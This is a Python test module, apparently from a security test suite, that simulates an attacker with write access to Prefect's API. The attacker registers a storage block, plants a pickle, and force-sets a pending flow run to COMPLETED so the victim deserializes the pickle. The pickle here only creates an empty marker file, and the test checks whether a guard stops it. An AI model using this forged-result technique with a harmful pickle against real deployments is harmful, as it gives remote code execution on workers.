"""Who can write to Prefect's API, and what they try; `python -m tests.tasks.run.forged_results` is a victim.

The attacker saves a storage block by HTTP, puts a pickle where it points, and forces a flow run that has
not begun yet into a final state whose data name that pickle. A pickle that is loaded makes MARKER.
"""

from __future__ import annotations

import base64
import json
import pickle
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx


@dataclass
class MakesAFile:
    """Unpickled, it makes an empty file."""

    path: str

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (Path(self.path),)


@dataclass(frozen=True)
class Forgery:
    """What is forged: where the result is said to be, and how it is to be read."""

    block: str  # slug of the storage block's type
    serializer: dict[str, Any]


def pickled(marker: Path) -> bytes:
    """A result that makes the marker when Prefect's own serializer loads it."""
    return base64.encodebytes(pickle.dumps(MakesAFile(str(marker))))


def save_block(api: httpx.Client, slug: str, place: str) -> str:
    """A storage block of the type, of what is at the place; its id."""
    kind = api.get(f"block_types/slug/{slug}").raise_for_status().json()
    asked = {"block_schemas": {"block_type_id": {"any_": [kind["id"]]}}}
    schema = api.post("block_schemas/filter", json=asked).raise_for_status().json()[0]
    block = {
        "name": f"forged-{uuid4()}",
        "data": {"basepath": place},
        "block_type_id": kind["id"],
        "block_schema_id": schema["id"],
    }
    answer = api.post("block_documents/", json=block).raise_for_status()
    return str(answer.json()["id"])


def forge(
    api: httpx.Client, forgery: Forgery, flow_run: str, place: str, key: str, result: bytes
) -> str:
    """Force the flow run to have ended with a result; what its storage has to answer for the key."""
    data = {
        "storage_key": key,
        "storage_block_id": save_block(api, forgery.block, place),
        "serializer": forgery.serializer,
        "prefect_version": "3.7.7",
        "expiration": None,
    }
    forced = {"state": {"type": "COMPLETED", "data": data}, "force": True}
    answer = api.post(f"flow_runs/{flow_run}/set_state", json=forced).raise_for_status()
    assert answer.json()["status"] == "ACCEPT", answer.text
    return json.dumps({"metadata": data, "result": result.decode()})


def victim(guarded: bool, count: int) -> None:
    """Begin flow runs once somebody has written a line; prints their ids first, the outcomes last."""
    if guarded:
        import tasks.run.flow_options  # noqa: F401 (as every flow of a run)
    from prefect import flow
    from prefect.client.orchestration import get_client
    from prefect.flow_engine import run_flow

    @flow(name="victim", persist_result=False)
    def own() -> str:
        return "own"

    with get_client(sync_client=True) as client:
        pending = [client.create_flow_run(own) for _ in range(count)]
    print(json.dumps([str(run.id) for run in pending]), flush=True)
    sys.stdin.readline()
    outcomes = []
    for run in pending:
        try:
            outcomes.append(f"returned {run_flow(own, flow_run=run)!r}")
        except Exception as error:  # whatever Prefect makes of it
            outcomes.append(f"raised {type(error).__name__}: {error}")
    print(json.dumps(outcomes))


if __name__ == "__main__":
    victim(sys.argv[1] == "guarded", int(sys.argv[2]))
